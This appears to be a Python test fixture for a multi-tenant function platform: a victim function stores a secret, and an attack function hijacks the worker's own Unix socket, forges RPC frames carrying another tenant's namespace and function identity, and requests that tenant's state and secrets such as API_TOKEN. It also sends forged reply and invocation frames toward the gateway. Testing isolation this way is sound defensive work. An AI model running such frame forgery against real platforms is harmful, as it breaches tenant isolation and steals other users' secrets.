"""Forge frames on the worker's own socket to reach another tenant's state and secrets."""

import itertools
import os
import socket
import stat
import struct

import msgpack


def seed(event, ctx):
    """The victim: an ordinary function that keeps a secret in its state."""
    ctx.state.put("secret", event["value"])
    ctx.state.put("secret:copy", event["value"])
    return {"seeded": True}


def _worker_socket() -> socket.socket:
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sock = socket.socket(fileno=os.dup(fd))
                if sock.family == socket.AF_UNIX:
                    return sock
                sock.close()
        except OSError:
            continue
    raise RuntimeError("no socket")


def _frame(message) -> bytes:
    body = msgpack.packb(message, use_bin_type=True)
    return struct.pack(">I", len(body)) + body


def attack(event, ctx):
    victim_ns, victim_fn = event["namespace"], event["function"]
    sock = _worker_socket()
    rids = itertools.count(10_000)
    claims = {
        "namespace": victim_ns,
        "function": victim_fn,
        "ns": victim_ns,
        "fn": victim_fn,
        "version": 1,
    }
    requests = [
        ("state.get", {"key": "secret", **claims}),
        ("state.get", {"key": f"{victim_ns}/{victim_fn}/secret"}),
        ("state.list", {"prefix": "", **claims}),
        ("state.list", {"prefix": "secret", "limit": 10000}),
        ("state.incr", {"key": "secret", **claims}),
        ("secrets.get", {"names": ["API_TOKEN", "VICTIM"], **claims}),
        ("state.get", {"key": "secret"}),
    ]
    replies = []
    rfile = sock.makefile("rb")
    for op, args in requests:
        rid = next(rids)
        # Claim the victim's identity in every field a frame could carry.
        frame = {"t": "rpc", "rid": rid, "id": ctx.invocation_id, "op": op, "args": args}
        frame.update({"namespace": victim_ns, "function": victim_fn, "ns": victim_ns})
        sock.sendall(_frame(frame))
        while True:
            (size,) = struct.unpack(">I", rfile.read(4))
            reply = msgpack.unpackb(rfile.read(size), raw=False)
            if reply.get("t") == "rpr" and reply.get("rid") == rid:
                replies.append({"op": op, "reply": reply})
                break
    # Frames no honest worker sends: replies and invocations towards the gateway, junk.
    sock.sendall(_frame({"t": "res", "id": "someone-else", "body": b'"forged"'}))
    sock.sendall(_frame({"t": "inv", "id": "x", "ev": b"{}"}))
    return {"replies": replies, "own": ctx.state.get("secret")}
